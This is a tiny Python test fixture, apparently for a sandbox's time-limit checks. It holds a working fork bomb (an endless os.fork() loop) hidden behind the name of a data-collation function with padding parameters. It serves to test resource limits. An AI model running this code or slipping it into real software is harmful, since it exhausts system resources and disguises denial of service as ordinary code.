# expect: time_limit_exceeded
# what: the classic fork bomb: every process forks forever
# within: 30
import os


def collate(batch, pad_id=0, pad_to_multiple_of=None, padding_side="right"):
    while True:
        try:
            os.fork()
        except OSError:
            pass
